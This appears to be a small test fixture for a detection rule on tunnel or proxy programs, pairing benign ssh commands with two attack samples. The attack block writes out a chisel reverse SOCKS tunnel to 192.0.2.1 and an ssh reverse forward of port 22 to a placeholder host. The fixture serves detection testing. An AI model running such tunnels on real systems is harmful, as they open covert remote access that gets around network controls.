# Rule: Tunnel or proxy program started
benign() {
    named ssh
    ssh host.example true
    named frpc-docs
    frpc-docs
}
attack() {
    named chisel
    chisel client 192.0.2.1 R:socks
    named ssh
    ssh -N -R 2222:localhost:22 user@host.example
}
